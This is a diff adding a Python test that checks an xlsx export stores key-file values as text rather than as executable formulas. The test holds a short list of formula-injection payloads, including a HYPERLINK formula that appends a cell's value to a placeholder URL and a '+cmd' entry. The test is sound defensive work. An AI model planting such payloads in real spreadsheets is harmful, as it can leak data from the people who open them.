@@ -88,6 +88,42 @@ def test_dta_of_the_shipped_wide_spec_with_32_character_names(demo: Project) -> 
     assert len(meta.variable_value_labels) > 10
 
 
+FORMULA_LIKE = ['=HYPERLINK("http://x"&A1)', "+cmd", "-2+3", "@SUM(A1)"]
+
+
+def test_xlsx_holds_key_values_as_text_never_as_formulas(demo: Project) -> None:
+    import zipfile
+
+    import openpyxl
+
+    from coder.project.key_file import read_key, write_key
+
+    rows = read_key(demo.key_path)
+    for row, value in zip(rows, FORMULA_LIKE, strict=False):
+        row["participant"] = value
+        row["site"] = value
+    write_key(demo.key_path, rows)
+    spec = parse_spec("name: formulas\nlayout: long\nformats: [xlsx]\n")
+    result = run_export(demo, spec)
+    book = next(p for p in result.files if p.suffix == ".xlsx")
+    with zipfile.ZipFile(book) as archive:
+        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
+        assert sheets
+        for name in sheets:
+            xml = archive.read(name).decode("utf-8")
+            assert "<f>" not in xml and "<f " not in xml, name
+    data = openpyxl.load_workbook(book)["data"]
+    header = [c.value for c in next(data.iter_rows(max_row=1))]
+    found: dict[str, set[object]] = {"participant": set(), "site": set()}
+    for row in data.iter_rows(min_row=2):
+        for column in found:
+            cell = row[header.index(column)]
+            found[column].add(cell.value)
+            assert cell.data_type != "f", cell.value
+    assert set(FORMULA_LIKE) <= found["participant"]
+    assert set(FORMULA_LIKE) <= found["site"]
+
+
 def test_every_format_gets_the_mode_of_an_ordinary_new_file(demo: Project) -> None:
     import os
     import stat
